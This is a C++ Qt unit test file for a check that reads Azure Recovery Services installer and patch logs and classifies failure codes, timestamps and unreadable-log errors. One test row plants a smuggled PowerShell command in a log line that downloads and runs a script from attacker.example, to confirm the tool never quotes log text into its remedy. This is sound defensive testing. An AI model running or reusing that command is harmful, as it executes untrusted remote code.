// SPDX-License-Identifier: MIT
// A12 installer_failure_logs over tables of setup and update logs (text answered by a
// FailingSystem hook), what counts as a failure line, and logs or folders that cannot be read.
#include "InstallCheckTestSupport.h"
#include "catalog/common/RestartElevatedFix.h"
#include "catalog/install/InstallerLogsCheck.h"

#include <QTest>
#include <QTimeZone>

using namespace mars;
using namespace mars::test;

class TestInstallerLogsCheck : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void installerLogs_data();
    void installerLogs();
    void installerLogLinesAreShortened();
    void lineTimes_data();
    void lineTimes();
    void installedAgentDecides_data();
    void installedAgentDecides();
    void installerLogsProbeFailures();
};

void TestInstallerLogsCheck::installerLogs_data()
{
    QTest::addColumn<QString>("installerLog"); // text; "-" = no such file
    QTest::addColumn<QString>("patchLog");
    QTest::addColumn<Verdict>("expected");
    QTest::addColumn<QString>("cause");
    QTest::addColumn<QString>("line"); // evidence of the deciding line, "" = none

    const QString none = QStringLiteral("-");
    const QString clean = QStringLiteral("0A1C\t1612\t05/20 10:01:02.123\tSetup started (PID 1612)\r\n"
                                         "0A1C\t1612\t05/20 10:01:09.001\tInstalled OBSAGENT.msi: error code 0\r\n"
                                         "0A1C\t1612\t05/20 10:01:10.555\tSetup completed with 0 errors, no error\r\n");
    const QString cached = QStringLiteral("Installing update\r\nWarning: Local cached package "
                                          "'C:\\Windows\\Installer\\3f2a1.msi' is missing.\r\nUpdate finished\r\n");
    QTest::newRow("no logs") << none << none << Verdict::Pass << "No failed installation"
                             << "";
    QTest::newRow("clean setup log") << clean << none << Verdict::Pass << "No failed installation"
                                     << "";
    QTest::newRow("cached package missing") << none << cached << Verdict::Fail << "1612"
                                            << "Warning: Local cached package "
                                               "'C:\\Windows\\Installer\\3f2a1.msi' is missing.";
    QTest::newRow("update error 1612") << none << "Update failed with error 1612.\n"
                                       << Verdict::Fail << "OBSAGENT.msi"
                                       << "Update failed with error 1612.";
    QTest::newRow("rolled back") << "Microsoft Azure Recovery Services installation failed. All changes were rolled "
                                    "back.\n"
                                 << none << Verdict::Fail << "rolled back"
                                 << "Microsoft Azure Recovery Services installation failed. All changes were rolled "
                                    "back.";
    QTest::newRow("ID 4024") << "Installation error (ID: 4024)\n"
                             << none << Verdict::Fail << "4024"
                             << "Installation error (ID: 4024)";
    QTest::newRow("a rollback and a missing cached package: both remedies") << "Installation failed (ID: 4024)\n"
                                                                            << cached << Verdict::Fail << "rolled back"
                                                                            << "";
    // Only real results count (MsiExec error codes, the agent's own statements): a line that
    // merely contains "error" or "failed" is not a failure by itself.
    QTest::newRow("generic error words are not a warning")
            << clean
                       + QStringLiteral("ERROR: could not create C:\\Temp\\x\nRetrying\nFailed to register the "
                                        "provider: 0x80070005\nSetup ended\n")
            << none << Verdict::Pass << "No failed installation"
            << "";
    QTest::newRow("1603 as an HRESULT") << "Copy finished, error 0x80070643\n"
                                        << none << Verdict::Fail << "1603"
                                        << "Copy finished, error 0x80070643";
    QTest::newRow("1603 in Windows Installer's words")
            << "2024-05-02 09:15:02 Installation success or error status: 1603.\n"
            << none << Verdict::Fail << "1603"
            << "2024-05-02 09:15:02 Installation success or error status: 1603.";
    QTest::newRow("1603 exit code in the agent's own format")
            << "0A1C\t1612\t05/20 10:01:02.123\tSetup exited with code 1603\r\n"
            << none << Verdict::Fail << "1603"
            << "0A1C 1612 05/20 10:01:02.123 Setup exited with code 1603";
    QTest::newRow("1618: another installation was running")
            << "2024-05-02 09:15:02 Error 1618. Another installation is already in progress.\n"
            << none << Verdict::Warning << "1618"
            << "2024-05-02 09:15:02 Error 1618. Another installation is already in progress.";
    QTest::newRow("1618 as an HRESULT") << none << "Update aborted: 0x80070652\n"
                                        << Verdict::Warning << "1618"
                                        << "Update aborted: 0x80070652";
    QTest::newRow("a failed prerequisite") << "Prerequisite check: .NET Framework 4.8 is not installed\n"
                                              "Setup exited with code 1603\n"
                                           << none << Verdict::Fail << "prerequisites"
                                           << "Prerequisite check: .NET Framework 4.8 is not installed";
    QTest::newRow("a run that says it failed") << "Setup failed.\n"
                                               << none << Verdict::Warning << "last run failed"
                                               << "Setup failed.";
    QTest::newRow("a failed step that was retried is not a failure")
            << "Failed to copy x.dll, retrying\nSetup completed successfully\n"
            << none << Verdict::Pass << "No failed installation"
            << "";
    QTest::newRow("exit code 3010 is a success") << "Setup exited with code 3010\n"
                                                 << none << Verdict::Pass << "No failed installation"
                                                 << "";
    // Dates: a failure a success followed is history.
    QTest::newRow("1603 followed by a successful setup in the same log")
            << "2024-03-01 10:00:00 Setup 2.0.9262.0 started\n2024-03-01 10:05:00 Error 1603: fatal error\n"
               "2024-03-02 08:00:00 Setup 2.0.9262.0 started\n2024-03-02 08:04:00 Setup completed successfully\n"
            << none << Verdict::Pass << "later installation or update succeeded"
            << "";
    QTest::newRow("setup failed, a later update succeeded")
            << "2024-03-01 10:05:00 Installation success or error status: 1603.\n"
            << "2024-04-02 02:00:00 Update to 2.0.9262.0 completed successfully\n"
            << Verdict::Pass << "later installation or update succeeded"
            << "";
    QTest::newRow("the update failed after the last successful setup")
            << "2024-03-12 09:15:42 Setup completed successfully\n"
            << "2024-05-02 02:00:14 Update failed with error 1612.\n"
            << Verdict::Fail << "1612"
            << "2024-05-02 02:00:14 Update failed with error 1612.";
    // Issue #14: anyone can write C:\Windows\Temp\OBPatch.log. A "name" that is not a hex .msi
    // name is never quoted into the remedy (the generic sentence is), and a line of a megabyte is
    // scanned in linear time (the test would time out otherwise).
    QTest::newRow("injected cached package name")
            << none
            << QStringLiteral("Local cached package 'C:\\Windows\\Installer\\'; powershell -c \"iwr "
                              "http://attacker.example/x.ps1 | iex\"; '.msi' is missing.\r\n")
            << Verdict::Fail << "1612"
            << "";
    QTest::newRow("cached package name too long")
            << none
            << QStringLiteral("Local cached package 'C:\\Windows\\Installer\\0123456789abcdef0123.msi' is missing.\r\n")
            << Verdict::Fail << "1612"
            << "";
    QTest::newRow("a line of a megabyte") << QStringLiteral("1612 ").repeated(200'000) + QStringLiteral("\n0x80070643")
                                                     + QStringLiteral("Installer\\").repeated(50'000)
                                                     + QStringLiteral("\nSetup completed successfully\n")
                                          << none << Verdict::Pass << "No failed installation"
                                          << "";
    QTest::newRow("a success logged earlier than the failure does not count")
            << "05/01/2024 09:00:00 Setup exited with code 0\n"
            << "05/02/2024 02:00:14 Update failed with error 1603\n"
            << Verdict::Fail << "1603"
            << "05/02/2024 02:00:14 Update failed with error 1603";
}

void TestInstallerLogsCheck::installerLogs()
{
    QFETCH(QString, installerLog);
    QFETCH(QString, patchLog);
    QFETCH(Verdict, expected);
    QFETCH(QString, cause);
    QFETCH(QString, line);
    auto system = std::make_shared<FailingSystem>(scenario("{}"));
    system->textAnswer = [installerLog, patchLog](const QString& path) {
        const QString text = path == test::kTemp + QStringLiteral("\\OBInstaller0Curr.errlog") ? installerLog
                             : path == test::kTemp + QStringLiteral("\\OBPatch.log")           ? patchLog
                                                                                               : QStringLiteral("-");
        if (text == QLatin1String("-"))
            return Probed<QString>::bad(ProbeStatus::NotFound, path + QStringLiteral(" does not exist"), 2);
        return Probed<QString>::good(text);
    };
    const InstallerLogsCheck check;
    const Finding f = check.run(contextOf(system));
    verifyShape(f, check);
    QCOMPARE(f.verdict, expected);
    QVERIFY2(f.summary.contains(cause), qPrintable(f.summary));
    QCOMPARE(f.evidenceValue(QStringLiteral("installer_log")),
             installerLog == QLatin1String("-") ? QStringLiteral("not present")
                                                : test::kTemp + QStringLiteral("\\OBInstaller0Curr.errlog"));
    if (!line.isEmpty()) {
        const QString quoted = f.evidenceValue(QStringLiteral("installer_log_line"))
                               + f.evidenceValue(QStringLiteral("patch_log_line"));
        QCOMPARE(quoted, line);
    }
    if (f.summary.contains(QStringLiteral("1612")) || patchLog.contains(QStringLiteral("Local cached package")))
        QVERIFY(f.remedy.contains(QStringLiteral("KB4020490")));
    // The file to put back is named from the log line (KB4020490 step 4-5).
    if (patchLog.contains(QStringLiteral("3f2a1.msi")))
        QVERIFY2(f.remedy.contains(QStringLiteral("C:\\Windows\\Installer as 3f2a1.msi;")), qPrintable(f.remedy));
    else if (f.summary.contains(QStringLiteral("1612")))
        QVERIFY2(f.remedy.contains(QStringLiteral("the name in the \"Local cached package\" line")),
                 qPrintable(f.remedy));
    QVERIFY2(!f.remedy.contains(QStringLiteral("attacker.example")), qPrintable(f.remedy)); // nothing from the log
    QVERIFY2(!f.remedy.contains(QStringLiteral("0123456789abcdef0123")), qPrintable(f.remedy));
    if (f.summary.contains(QStringLiteral("rolled back")))
        QVERIFY(f.remedy.contains(QStringLiteral("https://aka.ms/azurebackup_agent")));
}

void TestInstallerLogsCheck::installerLogLinesAreShortened()
{
    const QDateTime now(QDate(2025, 6, 1), QTime(12, 0), QTimeZone::utc());
    const QString longLine = QStringLiteral("Setup failed: ") + QString(400, QLatin1Char('x'));
    const InstallerLogsCheck::LogAnalysis failed = InstallerLogsCheck::analyse(longLine, now);
    QCOMPARE(failed.finding, InstallerLogsCheck::LogFinding::RunFailed);
    QCOMPARE(failed.line.size(), InstallerLogsCheck::kQuoteChars);
    QVERIFY(failed.line.endsWith(QStringLiteral("...")));
    QVERIFY(failed.line.startsWith(QStringLiteral("Setup failed: xxx")));
    // Words and numbers that only look like a failure are not one.
    const InstallerLogsCheck::LogAnalysis clean = InstallerLogsCheck::analyse(
            QStringLiteral("errors: 0\nfailures: 0\nerror = 0x0\nThread 1612 done\nprovider 4024 loaded\n"
                           "PID 1603 started\nWrote 16180 bytes\n"),
            now);
    QCOMPARE(clean.finding, InstallerLogsCheck::LogFinding::Clean);
    QVERIFY(clean.line.isEmpty());
}

void TestInstallerLogsCheck::lineTimes_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QDateTime>("expected"); // invalid: no time stamp
    const auto utc = [](int y, int m, int d, int h, int min, int sec) {
        return QDateTime(QDate(y, m, d), QTime(h, min, sec), QTimeZone::utc());
    };
    QTest::newRow("ISO") << "2024-05-02 09:14:02 Setup started" << utc(2024, 5, 2, 9, 14, 2);
    QTest::newRow("ISO with T") << "[2024-05-02T09:14:02Z] Setup started" << utc(2024, 5, 2, 9, 14, 2);
    QTest::newRow("US with year") << "05/02/2024 09:14:02 Setup started" << utc(2024, 5, 2, 9, 14, 2);
    // The agent's errlog: thread ids, then month/day without a year (now is 2025-06-01).
    QTest::newRow("agent format, this year")
            << "0A1C\t1612\t05/20 10:01:02.123\tSetup started" << utc(2025, 5, 20, 10, 1, 2);
    QTest::newRow("agent format, a later day is last year")
            << "0A1C\t1612\t12/20 10:01:02.123\tSetup started" << utc(2024, 12, 20, 10, 1, 2);
    QTest::newRow("agent format, 29 February") << "0A1C\t1612\t02/29\t10:01:02.123\tx" << utc(2024, 2, 29, 10, 1, 2);
    QTest::newRow("no time stamp") << "Setup completed successfully" << QDateTime();
    QTest::newRow("not a date") << "Copied 13/45 files at 99:99:99" << QDateTime();
    QTest::newRow("a date far into the message is not the line's")
            << QStringLiteral("Setup started; the certificate of the vault expires on 2024-05-02 09:14:02")
                       .rightJustified(80)
            << QDateTime();
}

void TestInstallerLogsCheck::lineTimes()
{
    QFETCH(QString, line);
    QFETCH(QDateTime, expected);
    const QDateTime now(QDate(2025, 6, 1), QTime(12, 0), QTimeZone::utc());
    QCOMPARE(InstallerLogsCheck::lineTime(line, now), expected);
}

void TestInstallerLogsCheck::installedAgentDecides_data()
{
    QTest::addColumn<QString>("installed"); // cbengine.exe's version, "" = not installed
    QTest::addColumn<Verdict>("expected");
    QTest::addColumn<QString>("cause");
    QTest::newRow("newer than the failed version: history") << "2.0.9262.0" << Verdict::Pass << "later installation";
    QTest::newRow("the same version: not proof") << "2.0.9100.0" << Verdict::Fail << "rolled back";
    QTest::newRow("older (the upgrade failed)") << "2.0.9050.0" << Verdict::Fail << "rolled back";
    QTest::newRow("no agent installed") << "" << Verdict::Fail << "rolled back";
}

void TestInstallerLogsCheck::installedAgentDecides()
{
    QFETCH(QString, installed);
    QFETCH(Verdict, expected);
    QFETCH(QString, cause);
    auto system = withEngine(scenario(installedAgent("running")), installed);
    system->textAnswer = [](const QString& path) {
        if (!path.endsWith(QLatin1String("OBInstaller0Curr.errlog")))
            return Probed<QString>::bad(ProbeStatus::NotFound, path + QStringLiteral(" does not exist"), 2);
        return Probed<QString>::good(QStringLiteral(
                "2024-01-10 09:00:00 Microsoft Azure Recovery Services Agent setup 2.0.9100.0 started (upgrade)\r\n"
                "2024-01-10 09:02:00 Microsoft Azure Recovery Services installation failed. All changes made by the "
                "installation have been rolled back. (ID: 4024)\r\n"));
    };
    const InstallerLogsCheck check;
    const Finding f = check.run(contextOf(system));
    verifyShape(f, check);
    QCOMPARE(f.verdict, expected);
    QVERIFY2(f.summary.contains(cause), qPrintable(f.summary));
    if (expected == Verdict::Pass) {
        QVERIFY2(f.detail.contains(QStringLiteral("newer than the version that failed (2.0.9100.0)")),
                 qPrintable(f.detail));
        QVERIFY(f.evidenceValue(QStringLiteral("installer_log_resolved_line")).contains(QStringLiteral("4024")));
        QVERIFY(f.evidenceValue(QStringLiteral("installer_log_line")).isEmpty());
    } else {
        QVERIFY(f.detail.contains(QStringLiteral("logged 2024-01-10 09:02 UTC")));
    }
}

void TestInstallerLogsCheck::installerLogsProbeFailures()
{
    const InstallerLogsCheck check;
    // A log the limited token may not read: a warning that offers the restart, never a pass.
    // Denied to an administrator too: restarting would not help, so the check could not run.
    for (const char* account : {kLimited, kElevated}) {
        auto system = std::make_shared<FailingSystem>(scenario(QByteArray("{\"account\": ") + account + "}"));
        system->textAnswer = [](const QString& path) {
            return Probed<QString>::bad(ProbeStatus::Denied, path + QStringLiteral(": access denied"), 5);
        };
        const Finding f = check.run(contextOf(system));
        const bool limited = account == kLimited;
        QCOMPARE(f.verdict, limited ? Verdict::Warning : Verdict::Error);
        // Two unreadable logs as administrator: summed up, each sentence in the detail.
        QVERIFY((limited ? f.summary : f.detail).contains(QStringLiteral("administrator")));
        QVERIFY(f.remedy.contains(limited ? QStringLiteral("as administrator") : QStringLiteral("icacls")));
        QCOMPARE(f.fixIds.contains(RestartElevatedFix::id()), limited);
    }
    auto failed = std::make_shared<FailingSystem>(scenario("{}"));
    failed->textAnswer = [](const QString&) {
        return Probed<QString>::bad(ProbeStatus::Failed, QStringLiteral("ReadFile: error 23"), 23);
    };
    Finding f = check.run(contextOf(failed));
    QCOMPARE(f.verdict, Verdict::Error);
    QVERIFY(f.detail.contains(QStringLiteral("error 23")));

    auto noTemp = std::make_shared<FailingSystem>(scenario("{}"));
    noTemp->tempDirAnswer = [] {
        return Probed<QString>::bad(ProbeStatus::Failed, QStringLiteral("GetSystemWindowsDirectory failed"));
    };
    f = check.run(contextOf(noTemp));
    QCOMPARE(f.verdict, Verdict::Error);
    QVERIFY(f.detail.contains(QStringLiteral("GetSystemWindowsDirectory")));
}

QTEST_GUILESS_MAIN(TestInstallerLogsCheck)
#include "TestInstallerLogsCheck.moc"
